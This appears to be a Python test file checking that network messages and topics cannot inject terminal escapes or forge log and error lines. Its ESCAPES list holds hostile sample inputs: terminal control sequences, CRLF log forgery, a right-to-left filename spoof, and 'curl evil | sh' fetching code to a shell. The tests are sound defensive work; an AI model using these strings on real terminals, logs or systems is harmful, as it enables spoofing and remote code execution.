"""What comes from the network is shown to people and written to logs, and can do nothing there."""

from __future__ import annotations

import io
import json
import logging
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st

from collector.tail import describe
from core.errors import Unreachable, printable
from core.runtime.logs import start_logging

ESCAPES = (
    "\x1b]0;title\x07",
    "\x1b[2J\x1b[1;1H",
    "\r\nERROR forged",
    "\x9b31m",
    "\u202efdp.exe",
    "\u2028next  curl evil | sh",
)


def is_quiet(line: str) -> bool:
    """Whether a line is only what it shows."""
    return printable(line) == line and len(line.splitlines()) <= 1


MESSAGES = st.one_of(
    st.binary(max_size=60),
    st.sampled_from(ESCAPES).map(str.encode),
    st.builds(
        lambda kind, text: json.dumps({"v": 1, "kind": kind, "state": text, "process": text}).encode(),
        st.sampled_from(["status", "life", "ack", "data", "table", "inventory", "head", "want"]),
        st.sampled_from(ESCAPES),
    ),
    st.builds(
        lambda key, text: json.dumps({key: text, "v": text}, ensure_ascii=False).encode("utf-8", "replace"),
        st.sampled_from(ESCAPES),
        st.sampled_from(ESCAPES),
    ),
)
TOPICS = st.one_of(
    st.text(max_size=40),
    st.sampled_from(ESCAPES).map(lambda text: f"seiren/v1/aoba/{text}/registers"),
    st.just("seiren/v1/aoba/aoba-1/registers"),
    st.just("seiren/v1/aoba/aoba-1/status"),
)


@given(topic=TOPICS, payload=MESSAGES)
def test_no_message_speaks_to_the_terminal(topic: str, payload: bytes) -> None:
    for line in describe(topic, payload, lambda digest: None, readings=True):
        assert is_quiet(line)


@pytest.fixture
def log() -> Iterator[io.StringIO]:
    """What a process logs for people."""
    stream = io.StringIO()
    start_logging("human", stream=stream)
    yield stream


@pytest.mark.parametrize("text", ESCAPES)
def test_no_text_forges_a_line_of_the_log(text: str, log: io.StringIO) -> None:
    logging.getLogger("x").warning("ignored: %s", text, extra={"where": text, "seen": text})
    (line,) = log.getvalue().rstrip("\n").split("\n")
    assert is_quiet(line)


@pytest.mark.parametrize("text", ESCAPES)
def test_no_text_forges_a_line_of_an_error(text: str) -> None:
    told = Unreachable("x", where=text, evidence=text, cause=text, next=text).render()
    assert [line[:6].strip() for line in told.split("\n")] == ["ERROR", "where", "seen", "cause", "next"]
    assert all(is_quiet(line) for line in told.split("\n"))


def test_words_of_every_language_stay_as_they_are() -> None:
    text = "青葉製錬 − 169 t, ±0 °C “ok” e\u0301"
    assert printable(text) == text
